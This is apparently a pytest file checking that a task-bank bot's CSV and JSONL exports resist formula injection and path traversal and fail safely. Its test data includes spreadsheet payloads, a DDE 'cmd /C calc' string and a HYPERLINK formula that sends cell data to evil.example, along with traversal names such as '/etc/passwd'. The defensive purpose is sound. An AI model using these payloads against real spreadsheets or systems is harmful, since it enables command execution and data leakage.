"""Exports are safe to open and to write: CSV cells a spreadsheet would run are neutralised (OWASP),
JSON Lines stays raw, a batch's name never writes outside the working folder, a bad `-o` is one
clear line, and an existing file survives an export that fails midway."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import resource
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from bot.bootstrap import opened_bank
from bot.cli import app
from bot.config import load_config
from taskbank.export import FORMULA_STARTS, export_file_name, safe_file_name
from taskbank.models import Verdict
from tests.batches import TONE_ANSWER, header, jsonl, tone_batch
from tests.test_console import run_script

HOSTILE_WRITER, HOSTILE_REVIEWER = "\t=1+1", "+reviewer"
HOSTILE_ANSWER = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def hostile_batch() -> bytes:
    """A custom batch whose project, name, ids and options all start like formulas."""
    settings = header(
        project="=cmd|' /C calc'!A0",
        name="@SUM(1+1)",
        template="custom",
        payload_fields={"excerpt": "text"},
        questions=[
            {"id": "note", "kind": "text", "prompt": "A note"},
            {"id": "pick", "kind": "label", "prompt": "Pick", "options": ["-1+2", "@x"]},
        ],
    )
    return jsonl(settings, [{"id": "+1+1", "payload": {"excerpt": "A: Hello."}}])


async def answered_hostile(bank) -> int:
    batch = await bank.import_batch(hostile_batch(), filename="evil.jsonl")
    claimed = await bank.claim(HOSTILE_WRITER)
    answer = {"note": HOSTILE_ANSWER, "pick": "-1+2"}
    result = await bank.submit(claimed.assignment.id, HOSTILE_WRITER, answer, "k")
    await bank.record_review(
        result.submission.id, HOSTILE_REVIEWER, Verdict.REJECTED, "-2+3 is not a note"
    )
    return batch.id


async def test_csv_export_neutralises_every_cell_a_spreadsheet_would_run(bank):
    batch_id = await answered_hostile(bank)
    out = io.StringIO()
    assert await bank.export(batch_id, out, "csv") == 1
    header_row, row = list(csv.reader(io.StringIO(out.getvalue())))
    cells = dict(zip(header_row, row, strict=True))
    assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)]
    assert cells["project"] == "'=cmd|' /C calc'!A0"
    assert cells["batch"] == "'@SUM(1+1)"
    assert cells["task_external_id"] == "'+1+1"
    # people are named by pseudonym, never by their (here hostile) chat ids
    assert re.fullmatch(r"w-[0-9a-f]{16}", cells["writer"]) and cells["credited"] == "false"
    assert re.fullmatch(r"w-[0-9a-f]{16}", cells["reviewer"])
    assert HOSTILE_WRITER not in out.getvalue() and HOSTILE_REVIEWER not in out.getvalue()
    assert cells["review_reason"] == "'-2+3 is not a note"
    assert cells["answer.note"] == "'" + HOSTILE_ANSWER
    assert cells["answer.pick"] == "'-1+2"
    # every text cell is quoted; numbers are left bare (a number is never a formula)
    line = out.getvalue().splitlines()[1]
    assert line.startswith("\"'=cmd") and f",{cells['seconds_on_task']}," in line


async def test_jsonl_export_keeps_the_values_exactly_as_stored(bank):
    batch_id = await answered_hostile(bank)
    out = io.StringIO()
    await bank.export(batch_id, out, "jsonl")
    (record,) = [json.loads(line) for line in out.getvalue().splitlines()]
    assert record["answers"]["note"] == HOSTILE_ANSWER
    assert record["writer"].startswith("w-") and record["task_external_id"] == "+1+1"


@pytest.mark.parametrize(
    "name",
    [
        "../../x",
        "/etc/passwd",
        "..",
        ".",
        "",
        ".bashrc",
        "a\x00b",
        "CON",
        "nul.txt",
        "lpt1",
        "C:\\Windows\\system32",
        "a/../../b",
        "\u202egnp.exe",
        "-rf",
        "x" * 500,
        "é" * 300,
        "\ud800lone",
    ],
)
def test_a_default_export_name_stays_in_the_working_folder(name, tmp_path):
    file_name = export_file_name(name, "csv")
    assert file_name.endswith(".csv") and len(file_name.encode()) <= 130
    assert (tmp_path / file_name).resolve().parent == tmp_path.resolve()
    assert not file_name.startswith((".", "-")) and "\x00" not in file_name
    assert file_name.split(".")[0].lower() not in ("con", "nul", "lpt1")
    file_name.encode()  # no lone surrogates left


@given(st.text())
def test_any_name_makes_a_plain_file_name_in_its_folder(name):
    file_name = safe_file_name(name)
    folder = Path("/srv/exports")
    assert file_name and "/" not in file_name and "\x00" not in file_name
    assert os.path.normpath(folder / file_name).startswith("/srv/exports/")
    assert file_name not in (".", "..") and not file_name.startswith(".")


@pytest.fixture
def config(tmp_path):
    path = tmp_path / "taskbot.toml"
    path.write_text(f'[database]\nurl = "{tmp_path / "cli.db"}"\n')
    return path


def import_answered(config, batch: bytes, answers: int = 1) -> None:
    async def work():
        async with opened_bank(load_config(config)) as bank:
            await bank.import_batch(batch, filename="b.jsonl")
            for number in range(answers):
                claimed = await bank.claim("w1")
                await bank.submit(claimed.assignment.id, "w1", TONE_ANSWER, f"k{number}")

    asyncio.run(work())


def test_cli_export_of_a_batch_named_like_a_path_writes_in_the_working_folder(
    config, tmp_path, monkeypatch
):
    import_answered(config, tone_batch(1, name="../../escaped"))
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    result = CliRunner().invoke(app, ["batch", "export", "1", "--config", str(config)])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in work.iterdir()) == ["escaped.contributors.csv", "escaped.jsonl"]
    assert not (tmp_path / "escaped.jsonl").exists()


async def test_console_export_of_a_batch_named_like_a_path_stays_in_the_exports_folder(
    chat_bank, tmp_path
):
    await chat_bank.import_batch(tone_batch(1, name="../../escaped"), filename="b.jsonl")
    transcript = await run_script(chat_bank, tmp_path, ["/as cora", "/batch export 1 csv"])
    assert "saved to" in transcript
    exported = sorted(p.name for p in (tmp_path / "exports").iterdir())
    assert exported == ["escaped.contributors.csv", "escaped.csv"]
    assert not (tmp_path.parent / "escaped.csv").exists()


@pytest.mark.parametrize(
    ("where", "says"),
    [
        ("missing/out.csv", "does not exist"),
        (".", "it is a folder"),
        ("plain.txt/out.csv", "is not a folder"),
        ("/proc/out.csv", "no file can be made there"),
        ("fifo.csv", "is not a regular file"),
        ("link.csv", "is a symbolic link"),
        ("a" * 300 + ".csv", "the file name is too long"),
    ],
    ids=["missing-folder", "a-folder", "under-a-file", "unwritable", "fifo", "symlink", "long"],
)
def test_export_to_a_place_that_cannot_take_it_is_one_line_and_exit_1(
    config, tmp_path, where, says
):
    import_answered(config, tone_batch(1))
    (tmp_path / "plain.txt").write_text("not a folder")
    os.mkfifo(tmp_path / "fifo.csv")
    (tmp_path / "real.csv").write_text("kept\n")
    (tmp_path / "link.csv").symlink_to(tmp_path / "real.csv")
    target = where if where.startswith("/") else str(tmp_path / where)
    result = CliRunner().invoke(
        app, ["batch", "export", "1", "-o", target, "--config", str(config)]
    )
    assert result.exit_code == 1
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"error: cannot write the export to {target}: ") and says in line
    assert line.endswith("give another --output: a new or plain file in a folder that exists")
    assert (tmp_path / "fifo.csv").is_fifo() and (tmp_path / "link.csv").is_symlink()
    assert (tmp_path / "real.csv").read_text() == "kept\n"


@pytest.mark.parametrize("batch_id", ["99999999999999999999999", "9223372036854775808", "0"])
def test_a_batch_id_too_large_to_store_is_a_usage_error(config, batch_id):
    for command in (["batch", "export", batch_id], ["batch", "status", batch_id]):
        result = CliRunner().invoke(app, [*command, "--config", str(config)])
        assert result.exit_code == 2, result.output
        assert "Traceback" not in result.output


def _limit_file_size() -> None:
    """In the child: files may not grow past 64 KiB, and passing it is an error, not a kill."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (64 * 1024, 64 * 1024))


def test_an_export_that_fails_midway_leaves_the_existing_file_as_it_was(config, tmp_path):
    import_answered(config, tone_batch(600), answers=600)
    target = tmp_path / "out.csv"
    target.write_text("precious\n")
    export = ["batch", "export", "1", "--format", "csv", "-o", str(target)]
    failed = subprocess.run(
        [sys.executable, "-m", "bot.cli", *export, "--config", str(config)],
        preexec_fn=_limit_file_size,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert failed.returncode == 1, failed.stderr
    (line,) = failed.stderr.splitlines()
    assert "could not write" in line and "the file already there is unchanged" in line
    assert target.read_text() == "precious\n"
    assert sorted(p.name for p in tmp_path.iterdir() if "out.csv" in p.name) == ["out.csv"]
    # and without the limit the same export replaces it whole
    result = CliRunner().invoke(
        app, ["batch", "export", "1", "--format", "csv", "-o", str(target), "--config", str(config)]
    )
    assert result.exit_code == 0, result.output
    assert len(list(csv.reader(target.open()))) == 601


async def test_console_export_that_cannot_be_saved_says_so_and_the_session_goes_on(
    chat_bank, tmp_path
):
    await chat_bank.import_batch(tone_batch(1), filename="b.jsonl")
    (tmp_path / "exports").write_text("a file where the exports folder should be")
    transcript = await run_script(
        chat_bank, tmp_path, ["/as cora", "/batch export 1 csv", "/batch list"]
    )
    assert "Could not save" in transcript and "tone-1.csv" in transcript
    assert "Batches" in transcript.split("Could not save", 1)[1]
